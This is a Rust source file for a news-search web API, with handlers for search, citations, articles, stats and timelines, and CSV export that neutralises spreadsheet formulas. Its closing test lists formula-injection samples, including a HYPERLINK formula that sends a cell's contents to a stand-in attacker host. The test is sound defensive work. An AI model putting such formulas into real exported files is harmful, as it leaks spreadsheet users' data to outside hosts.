//! The JSON API: the objects `query --json`, `show --json` and `stats --json`
//! print, from the same serde types, and errors as `{"error":{"kind","message"}}`.

use std::sync::Arc;

use axum::Json;
use axum::extract::{Path, RawQuery, State};
use axum::http::{StatusCode, Uri, header};
use axum::response::{IntoResponse, Response};
use serde_json::json;

use super::app::{App, Failure};
use super::params::{MAX_LIMIT, Params};
use crate::error::Error;
use crate::output::cite::{CiteFormat, Cited, citations};
use crate::output::json::{ArticleData, MatchData, SummaryData, TimelineData};
use crate::search::{SearchRequest, SearchResults};
use crate::store::Named;

/// An error response.
pub struct ApiError {
    status: StatusCode,
    kind: &'static str,
    message: String,
}

impl ApiError {
    /// An error with `status`, its kind told by the status: 404 `not_found`, other
    /// 4xx `bad_request`, 5xx `unavailable`.
    pub fn new(status: StatusCode, message: impl Into<String>) -> ApiError {
        let kind = match status {
            StatusCode::NOT_FOUND => "not_found",
            StatusCode::UNAUTHORIZED => "unauthorized",
            StatusCode::TOO_MANY_REQUESTS => "too_many_requests",
            status if status.is_client_error() => "bad_request",
            _ => "unavailable",
        };
        ApiError {
            status,
            kind,
            message: message.into(),
        }
    }

    /// 404 with `message`.
    pub fn not_found(message: impl Into<String>) -> ApiError {
        ApiError {
            status: StatusCode::NOT_FOUND,
            kind: "not_found",
            message: message.into(),
        }
    }
}

impl ApiError {
    /// What went wrong, for people.
    pub fn message(&self) -> &str {
        &self.message
    }

    /// The HTTP status.
    pub fn status(&self) -> StatusCode {
        self.status
    }
}

impl From<Error> for ApiError {
    fn from(error: Error) -> ApiError {
        let (status, kind) = match &error {
            Error::Query(_) => (StatusCode::BAD_REQUEST, "query"),
            Error::Usage(_) => (StatusCode::BAD_REQUEST, "bad_request"),
            _ => (StatusCode::SERVICE_UNAVAILABLE, "unavailable"),
        };
        ApiError {
            status,
            kind,
            message: error.to_string(),
        }
    }
}

impl From<Failure> for ApiError {
    fn from(failure: Failure) -> ApiError {
        match failure {
            Failure::Error(error) => error.into(),
            Failure::TimedOut(budget) => ApiError {
                status: StatusCode::SERVICE_UNAVAILABLE,
                kind: "unavailable",
                message: format!(
                    "the search took longer than {} s; narrow the query",
                    budget.as_secs_f64()
                ),
            },
            Failure::Panicked(detail) => ApiError {
                status: StatusCode::SERVICE_UNAVAILABLE,
                kind: "unavailable",
                message: format!(
                    "the search failed inside the index ({detail}); it may be damaged: run `news-search check`"
                ),
            },
        }
    }
}

impl IntoResponse for ApiError {
    fn into_response(self) -> Response {
        let body = json!({"error": {"kind": self.kind, "message": self.message}});
        (self.status, Json(body)).into_response()
    }
}

/// Runs a search on the blocking pool.
pub async fn run_search(app: &Arc<App>, request: SearchRequest) -> Result<SearchResults, ApiError> {
    let request = app.with_synonyms(request);
    Ok(app.run(move |store| store.search(&request)).await?)
}

/// `GET /api/search`: `{"matches": […], "summary": {…}}`, or CSV or JSON Lines
/// with `format=csv|jsonl`.
pub async fn search(
    State(app): State<Arc<App>>,
    RawQuery(raw): RawQuery,
) -> Result<Response, ApiError> {
    let params = Params::parse(raw.as_deref())?;
    let results = run_search(&app, params.search_request()?).await?;
    Ok(match params.get("format").unwrap_or("json") {
        "json" => Json(json!({
            "matches": results.hits.iter().map(MatchData::of).collect::<Vec<_>>(),
            "summary": SummaryData::of(&results),
        }))
        .into_response(),
        "jsonl" => {
            let mut body = Vec::new();
            for hit in &results.hits {
                let line = json!({"type": "match", "data": MatchData::of(hit)});
                body.extend(line.to_string().into_bytes());
                body.push(b'\n');
            }
            let summary = json!({"type": "summary", "data": SummaryData::of(&results)});
            body.extend(summary.to_string().into_bytes());
            body.push(b'\n');
            ([(header::CONTENT_TYPE, "application/x-ndjson")], body).into_response()
        }
        "csv" => (
            [
                (header::CONTENT_TYPE, "text/csv; charset=utf-8"),
                (
                    header::CONTENT_DISPOSITION,
                    "attachment; filename=\"news-search.csv\"",
                ),
            ],
            csv(&results),
        )
            .into_response(),
        other => {
            return Err(
                Error::Usage(format!("format: `{other}` is not one of json, jsonl, csv")).into(),
            );
        }
    })
}

/// The hits as CSV (RFC 4180: every field quoted, quotes doubled).
fn csv(results: &SearchResults) -> String {
    let field = |text: &str| format!("\"{}\"", inert(text).replace('"', "\"\""));
    let mut out = String::from("rank,score,id,title,date,source,author,url,path,similar_count\r\n");
    for hit in &results.hits {
        let data = MatchData::of(hit);
        let row = [
            data.rank.to_string(),
            data.score.to_string(),
            data.id.to_string(),
            data.title.to_string(),
            data.date.unwrap_or_default(),
            data.source.unwrap_or_default().to_string(),
            data.author.unwrap_or_default().to_string(),
            data.url.unwrap_or_default().to_string(),
            data.path.unwrap_or_default().to_string(),
            data.similar_count.to_string(),
        ];
        let cells: Vec<String> = row.iter().map(|c| field(c)).collect();
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

pub(super) use crate::output::inert;

/// `GET /api/articles/{id}/cite?format=text|bibtex|ris|csl-json`: the article's
/// citation, as `show ID --cite --format …` prints it (with this server's page
/// of the article as its URL when it has none of its own), as a download.
pub async fn cite(
    State(app): State<Arc<App>>,
    Path(id): Path<String>,
    RawQuery(raw): RawQuery,
    headers: axum::http::HeaderMap,
) -> Result<Response, ApiError> {
    let params = Params::parse(raw.as_deref())?;
    let name = params.get("format").unwrap_or("text");
    let format = CiteFormat::parse(name).ok_or_else(|| {
        ApiError::from(Error::Usage(format!(
            "format: `{name}` is not one of text, bibtex, ris, csl-json"
        )))
    })?;
    let wanted = id.clone();
    let found = app.run(move |store| store.find(&wanted, Named::Id)).await?;
    let Some(article) = found.first() else {
        return Err(ApiError::not_found(format!("no article has the id `{id}`")));
    };
    let escaped: String = form_urlencoded::byte_serialize(id.as_bytes()).collect();
    let page = format!("{}/articles/{escaped}", super::feeds::base(&headers));
    let body = citations(&[Cited::new(article, Some(page))], format);
    let file: String = id
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .take(64)
        .collect();
    Ok((
        [
            (header::CONTENT_TYPE, format.media_type().to_string()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{file}.{}\"", format.extension()),
            ),
        ],
        body,
    )
        .into_response())
}

/// `GET /api/articles/{id}`: one article, as `show --json` prints it.
pub async fn article(
    State(app): State<Arc<App>>,
    Path(id): Path<String>,
) -> Result<Response, ApiError> {
    let found = app.run(move |store| store.find(&id, Named::Id)).await?;
    match found.into_iter().next() {
        Some(article) => Ok(Json(ArticleData::of(&article)).into_response()),
        None => Err(ApiError::not_found("no article has that id")),
    }
}

/// `GET /api/articles/{id}/similar?limit=`: related coverage, as `similar --json`.
pub async fn similar(
    State(app): State<Arc<App>>,
    Path(id): Path<String>,
    RawQuery(raw): RawQuery,
) -> Result<Response, ApiError> {
    let params = Params::parse(raw.as_deref())?;
    let limit = params.number("limit", 10)?.min(MAX_LIMIT);
    let chars = params.number("snippet_chars", 200)?.clamp(1, 10_000);
    let synonyms = app.synonyms();
    let results = app
        .run(move |store| store.similar(&id, Named::Id, synonyms.as_deref(), limit, chars))
        .await?
        .map(|(results, _)| results)
        .ok_or_else(|| ApiError::not_found("no article has that id"))?;
    Ok(Json(json!({
        "matches": results.hits.iter().map(MatchData::of).collect::<Vec<_>>(),
        "summary": SummaryData::of(&results),
    }))
    .into_response())
}

/// `GET /api/stats`: as `stats --json`.
pub async fn stats(
    State(app): State<Arc<App>>,
    RawQuery(raw): RawQuery,
) -> Result<Response, ApiError> {
    let top = Params::parse(raw.as_deref())?
        .number("top", 10)?
        .min(MAX_LIMIT);
    let stats = app.run(move |store| store.stats(top)).await?;
    Ok(Json(crate::output::stats_value(&stats)).into_response())
}

/// `GET /api/timeline?q=&unit=`: the `timeline` object of the matching set.
pub async fn timeline(
    State(app): State<Arc<App>>,
    RawQuery(raw): RawQuery,
) -> Result<Response, ApiError> {
    let params = Params::parse(raw.as_deref())?;
    let unit = params
        .unit("unit")?
        .unwrap_or(crate::search::timeline::TimeUnit::Auto);
    let mut request = params.search_request()?;
    request.limit = 0;
    request.highlight = false;
    request.collapse = false;
    request.timeline = Some(unit);
    let request = app.with_synonyms(request);
    let results = app.run(move |store| store.search(&request)).await?;
    match &results.timeline {
        Some(timeline) => Ok(Json(TimelineData::of(timeline)).into_response()),
        None => Err(Error::Internal("no timeline was counted".into()).into()),
    }
}

/// `GET /api/terms?q=…`: `{"terms": [{"term", "in", "out", "score"}…], "summary": {…}}`,
/// as `terms --json`.
pub async fn terms(
    State(app): State<Arc<App>>,
    RawQuery(raw): RawQuery,
) -> Result<Response, ApiError> {
    let request = Params::parse(raw.as_deref())?.terms_request()?;
    let terms = app.run(move |store| store.run(&request)).await?;
    Ok(Json(json!({
        "terms": terms.terms.iter().map(crate::output::term_value).collect::<Vec<_>>(),
        "summary": crate::output::terms_summary(&terms),
    }))
    .into_response())
}

/// `GET /api/reuse?q=…`: `{"clusters": [{"passage", "articles", "sources", "first",
/// "last"}…], "summary": {…}}`, as `reuse --json`.
pub async fn reuse(
    State(app): State<Arc<App>>,
    RawQuery(raw): RawQuery,
) -> Result<Response, ApiError> {
    let request = Params::parse(raw.as_deref())?.reuse_request()?;
    let reuse = app.run(move |store| store.run(&request)).await?;
    Ok(Json(json!({
        "clusters": reuse.clusters.iter().map(crate::output::cluster_value).collect::<Vec<_>>(),
        "summary": crate::output::reuse_summary(&reuse),
    }))
    .into_response())
}

/// Anything else: 404, as JSON under `/api/` and as a page elsewhere.
pub async fn not_found(uri: Uri) -> Response {
    let error = ApiError::not_found(
        "no such page; the API is under /api/search, /api/articles/{id}, /api/stats, /api/timeline",
    );
    if super::errors::is_api(uri.path()) {
        error.into_response()
    } else {
        super::page::error_page(&error)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_are_made_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
            "+1+2",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(inert(formula), format!("'{formula}"));
        }
        for plain in ["Dock workers strike", "2024-07-04", "1.5", "", " =1"] {
            assert_eq!(inert(plain), plain);
        }
    }
}
